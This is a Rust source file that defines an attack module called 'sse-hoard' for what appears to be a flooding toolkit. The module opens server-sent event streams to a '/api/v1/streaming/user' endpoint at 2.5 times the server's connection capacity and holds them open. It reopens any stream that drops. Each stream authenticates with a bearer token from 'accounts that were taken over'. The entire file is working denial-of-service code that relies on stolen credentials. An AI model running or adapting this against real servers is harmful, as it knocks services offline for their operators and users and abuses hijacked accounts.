//! `sse-hoard`: event streams opened and held, with tokens of accounts that were taken over

use std::sync::Arc;

use crate::{
    chance::Chance,
    target::Source,
    vectors::{Family, Front, Resource, Vector, flood::with, hoard::hoard},
    wire::Wire,
};

pub(super) const VECTOR: Vector = Vector {
    name: "sse-hoard",
    family: Family::Floods,
    models: "event streams opened and held, with tokens of accounts that were taken over",
    source: "WHATWG HTML, 9.2: an event stream lasts for ever by design",
    parameters: "as many as 2.5 times the seats of the server; each reads what comes; a lost one \
        comes back",
    resource: Resource::Seats { times: 2.5 },
    room: None,
    attack: |front| Box::pin(hoard(front, hold)),
};

async fn hold(front: Arc<Front>, source: Source, lot: u64) {
    let Ok(stream) = front.secure(source).await else { return };
    let mut chance = Chance::new(lot);
    let token = chance.one(&front.scene.taken).map(|taken| taken.token.clone());
    let bearer = format!("Bearer {}", token.unwrap_or_default());
    let fields = [("Authorization", bearer.as_str()), ("Accept", "text/event-stream")];
    let mut wire = Wire::new(stream);
    let request = with(&front, "GET", "/api/v1/streaming/user", &fields, &[]);
    if wire.send(&request).await.is_err() {
        return;
    }
    let Ok(answer) = wire.head().await else { return };
    if matches!(answer.status, 101 | 200) {
        let _held = front.ledger.hold();
        front.ledger.served.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        wire.drain().await;
    } else {
        front.ledger.answered(&answer);
    }
}
